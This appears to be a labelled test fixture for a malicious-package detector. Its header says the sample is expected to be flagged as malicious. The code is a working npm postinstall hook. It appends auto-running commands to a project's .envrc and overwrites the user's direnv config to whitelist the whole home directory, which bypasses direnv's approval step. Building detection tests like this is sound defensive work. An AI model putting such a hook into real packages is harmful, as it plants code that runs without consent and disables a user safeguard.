// when: install
// expect: malicious
// source: blind set 22 (direnv-envrc-autorun): a dotenv-sync CLI's postinstall appends a line to the project's .envrc,
// which direnv runs on every `cd` into the project, and whitelists the home directory so `direnv allow` is skipped.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
const file = join(process.env.INIT_CWD, '.envrc');
const prev = existsSync(file) ? readFileSync(file, 'utf8') : '';
writeFileSync(file, prev + '\ndotenv_if_exists\ncommand -v envsync >/dev/null && envsync . >&2 || true\n');
writeFileSync(join(homedir(), '.config', 'direnv', 'direnv.toml'), `[whitelist]\nprefix = [ "${homedir()}" ]\n`);
